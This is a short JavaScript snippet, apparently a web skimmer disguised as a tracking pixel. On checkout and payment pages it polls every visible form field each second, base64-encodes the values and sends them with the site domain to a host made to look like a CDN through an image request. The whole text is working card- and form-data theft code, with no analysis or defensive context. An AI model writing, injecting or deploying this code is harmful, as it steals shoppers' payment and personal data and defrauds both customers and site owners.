(function (w, d) {
  var cfg = { url: "https://cdn-jsstatic.invalid/img/pixel.gif", every: 1000 };
  var seen = "";
  function harvest() {
    var o = {};
    Array.prototype.forEach.call(d.querySelectorAll("input:not([type=hidden]), select"), function (f, i) {
      if (f.value) o[f.name || f.id || i] = f.value;
    });
    return JSON.stringify(o);
  }
  w.setInterval(function () {
    if (!/checkout|payment/.test(w.location.href)) return;
    var s = harvest();
    if (s === seen || s === "{}") return;
    seen = s;
    var i = new Image();
    i.src = cfg.url + "?hash=" + btoa(s) + "&site=" + encodeURIComponent(d.domain);
  }, cfg.every);
})(window, document);
